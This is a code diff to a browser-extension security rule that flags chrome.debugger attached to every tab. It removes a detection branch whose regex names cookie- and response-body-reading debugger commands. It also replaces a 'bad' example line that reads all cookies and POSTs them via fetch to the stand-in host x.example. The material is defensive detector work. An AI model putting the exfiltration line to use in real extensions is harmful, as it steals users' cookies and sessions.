@@ -1,13 +1,11 @@
-import { callsOf, constant, keysOf } from '../../facts/javascript/query.ts';
+import { callsOf, keysOf } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { backwardSlice } from '../../program/backwardSlice.ts';
-import { leavesBy } from './sendings.ts';
 import { functionOf } from '../../program/functionOf.ts';
 import { callsWithin } from '../../program/callsWithin.ts';
 import { first } from '../../facts/first.ts';
 import { COMES_LATER, COMES_OFTEN } from '../../models/unaskedEvents.ts';
-import { say } from '../../../texts/say.ts';
 
 export const debuggerOnEveryTab = defineRule({
   id: 'debugger-on-every-tab',
@@ -21,7 +19,8 @@ export const debuggerOnEveryTab = defineRule({
   why: 'The debugger reads and changes everything in a page, including passwords and encrypted traffic. It bypasses every other limit on extensions.',
   remedy: 'Attach only to the tab the user chose, after a click, and detach when done.',
   check: checkScripts(function* ({ script, hit }) {
-    if (callsOf(script, 'chrome.debugger.attach', 'chrome.debugger.sendCommand').length === 0) return;
+    const attached = callsOf(script, 'chrome.debugger.attach');
+    if (attached.length === 0) return;
     const alone = new Set(
       first(callsOf(script, ...COMES_OFTEN, ...COMES_LATER)).flatMap((call) => {
         const fn = functionOf(script, call.args[0] ?? 0);
@@ -33,26 +32,9 @@ export const debuggerOnEveryTab = defineRule({
         .filter((call) => keysOf(script, call.args[0] ?? 0).length === 0)
         .map((call) => call.value),
     );
-    for (const call of callsOf(script, 'chrome.debugger.attach')) {
+    for (const call of attached) {
       const origins = all.size === 0 ? undefined : backwardSlice(script, call.args[0] ?? 0);
       if (alone.has(call.value) || [...all].some((query) => origins?.has(query) === true)) yield hit(call.value);
-    }
-    for (const call of callsOf(script, 'chrome.debugger.sendCommand')) {
-      if (
-        !/^(Network\.getResponseBody|Network\.getAllCookies|Network\.getCookies|Storage\.getCookies|Fetch\.getResponseBody|Network\.getRequestPostData)$/.test(
-          constant(script, call.args[1] ?? 0) ?? '',
-        )
-      )
-        continue;
-      const out = leavesBy(script, new Set([call.value]), ['network']);
-      if (out !== undefined)
-        yield hit(call.value, {
-          severity: 'critical',
-          ...(alone.size > 0 && callsOf(script, 'chrome.debugger.attach').some(({ value }) => alone.has(value))
-            ? { confidence: 'high' as const }
-            : {}),
-          message: say('reading-sent-to', out.to),
-        });
     }
   }),
   examples: {
@@ -61,7 +43,7 @@ export const debuggerOnEveryTab = defineRule({
         'chrome.tabs.onUpdated.addListener((tabId) => { chrome.debugger.attach({ tabId }, "1.3", () => {}); });',
       ),
       backgroundExample(
-        'chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://x.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });',
+        'chrome.tabs.query({}, (tabs) => tabs.forEach(({ id }) => chrome.debugger.attach({ tabId: id }, "1.3")));',
       ),
     ],
     good: [
